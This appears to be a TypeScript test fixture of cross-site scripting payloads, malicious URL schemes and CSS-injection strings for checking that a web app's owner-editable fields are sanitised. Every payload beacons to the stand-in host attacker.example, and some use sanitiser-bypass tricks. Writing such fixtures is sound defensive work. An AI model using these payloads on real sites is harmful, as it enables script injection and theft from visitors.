// Texts that an owner could enter to run a script on a page. Each requests something from this origin if it succeeds,
// so that one listener sees them all.
export const attackerOrigin = 'https://attacker.example'

/** `nth` tells the attacks apart in a failure. */
type Attack = (nth: number) => string

const url = (nth: number) => `${attackerOrigin}/${nth}`
const run = (nth: number) => `new Image().src='${url(nth)}'`

const attacks: Attack[] = [
  (nth) => `<script>${run(nth)}</script>`,
  (nth) => `</script><script>${run(nth)}</script>`,
  (nth) => `</style><script>${run(nth)}</script>`,
  (nth) => `</title><script>${run(nth)}</script>`,
  (nth) => `</textarea><script>${run(nth)}</script>`,
  (nth) => `</noscript><script>${run(nth)}</script>`,
  (nth) => `<script src=${url(nth)}></script>`,
  (nth) => `<script type=module src=${url(nth)}></script>`,
  (nth) => `<script src=//attacker.example/${nth}></script>`,
  (nth) => `"><script>${run(nth)}</script>`,
  (nth) => `'><script>${run(nth)}</script>`,
  (nth) => `--><script>${run(nth)}</script>`,
  (nth) => `]]><script>${run(nth)}</script>`,
  (nth) => `<ScRiPt>${run(nth)}</sCrIpT>`,
  (nth) => `<scr<script>ipt>${run(nth)}</scr</script>ipt>`,
  (nth) => `<img src=x onerror="${run(nth)}">`,
  (nth) => `"><img src=x onerror=${run(nth)}>`,
  (nth) => `<img src=${url(nth)}>`,
  (nth) => `"><img src=${url(nth)}>`,
  (nth) => `' onerror='${run(nth)}`,
  (nth) => `" onerror="${run(nth)}`,
  (nth) => `" onmouseover="${run(nth)}" style="position:fixed;inset:0" x="`,
  (nth) => `" autofocus onfocus="${run(nth)}" x="`,
  (nth) => `<svg onload=${run(nth)}>`,
  (nth) => `<svg><script href=${url(nth)} /></svg>`,
  (nth) => `<svg><animate onbegin=${run(nth)} attributeName=x dur=1s>`,
  (nth) => `<svg><style><img src=x onerror=${run(nth)}></style></svg>`,
  (nth) => `<math><mi//xlink:href="javascript:${run(nth)}">`,
  (nth) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run(nth)}&gt;">`,
  (nth) => `<iframe src="${url(nth)}"></iframe>`,
  (nth) => `<iframe srcdoc="<script>${run(nth)}</script>"></iframe>`,
  (nth) => `<iframe src="javascript:${run(nth)}"></iframe>`,
  (nth) => `<object data="${url(nth)}"></object>`,
  (nth) => `<embed src="${url(nth)}">`,
  (nth) => `<body onload=${run(nth)}>`,
  (nth) => `<details open ontoggle=${run(nth)}>`,
  (nth) => `<input autofocus onfocus=${run(nth)}>`,
  (nth) => `<video><source onerror=${run(nth)}></video>`,
  (nth) => `<audio src=${url(nth)} autoplay>`,
  (nth) => `<video poster=${url(nth)}></video>`,
  (nth) => `<marquee onstart=${run(nth)}>`,
  (nth) => `<link rel=stylesheet href=${url(nth)}>`,
  (nth) => `<link rel=prefetch href=${url(nth)}>`,
  (nth) => `<link rel=icon href=${url(nth)}>`,
  (nth) => `<style>@import '${url(nth)}';</style>`,
  (nth) => `<style>*{background:url(${url(nth)})}</style>`,
  (nth) => `}*{background:url(${url(nth)})}`,
  (nth) => `red;background:url(${url(nth)})`,
  (nth) => `';}*{background:url(${url(nth)})}/*`,
  (nth) => `<meta http-equiv=refresh content="0;url=${url(nth)}">`,
  (nth) => `<meta http-equiv=Content-Security-Policy content="default-src *"><script>${run(nth)}</script>`,
  (nth) => `<base href="${url(nth)}/">`,
  (nth) => `<form action=${url(nth)}><button autofocus>Buy</button></form><script>document.forms[0].submit()</script>`,
  (nth) => `<portal src=${url(nth)}></portal>`,
  (nth) => `<template shadowrootmode=open><script>${run(nth)}</script></template>`,
  (nth) => `javascript:${run(nth)}//`,
  (nth) => `data:text/html,<script>${run(nth)}</script>`,
  (nth) => `{{constructor.constructor("${run(nth)}")()}}`,
  (nth) => `\${${run(nth)}}`,
  (nth) => `\u2028<script>${run(nth)}</script>\u2029`,
  (nth) => `&lt;script&gt;${run(nth)}&lt;/script&gt;`,
  (nth) => `&#60;script&#62;${run(nth)}&#60;/script&#62;`,
  (nth) => `\uff1cscript\uff1e${run(nth)}\uff1c/script\uff1e`,
  (nth) => `%3Cscript%3E${run(nth)}%3C/script%3E`,
  (nth) => `\\u003cscript\\u003e${run(nth)}\\u003c/script\\u003e`,
  (nth) => `\u202e<script>${run(nth)}</script>`,
  (nth) => `<!--><script>${run(nth)}</script>-->`,
  (nth) => `<x/onclick=${run(nth)} autofocus tabindex=1 onfocus=${run(nth)}>`,
]

/** A text per attack. */
export const textAttacks: string[] = attacks.map((attack, nth) => attack(nth))

/** Addresses that no field may accept: they are no pages or pictures that are loaded over https. */
export const addressAttacks: string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://shelf.example/1',
  'file:///etc/passwd',
  'ftp://attacker.example/',
  'http://attacker.example/',
  '//attacker.example/',
  '/\\attacker.example',
  'https://mia:secret@attacker.example/',
  'https://attacker.example\n/',
  'https:',
  'view-source:https://shelf.example',
  'about:blank',
]

/** Addresses that fields accept, and that must stay one address where they stand on a page. */
export const acceptedAddresses: string[] = [
  `https://pictures.example/"onerror="${run(100)}"x="`,
  `https://pictures.example/'onerror='${run(101)}'x='`,
  `https://pictures.example/><script>${run(102)}</script>`,
  `https://pictures.example/x.css');@import'${url(103)}`,
  `https://pictures.example/css2?family=x';}*{background:url(${url(104)})}`,
  `https://pictures.example/css2?family=</style><script>${run(105)}</script>`,
]

export const colorAttacks: string[] = [
  'red',
  '#fff',
  '#12345g',
  '#123456;}*{background:url(//attacker.example)}',
  'url(//attacker.example)',
  'var(--x)',
  '</style>',
]
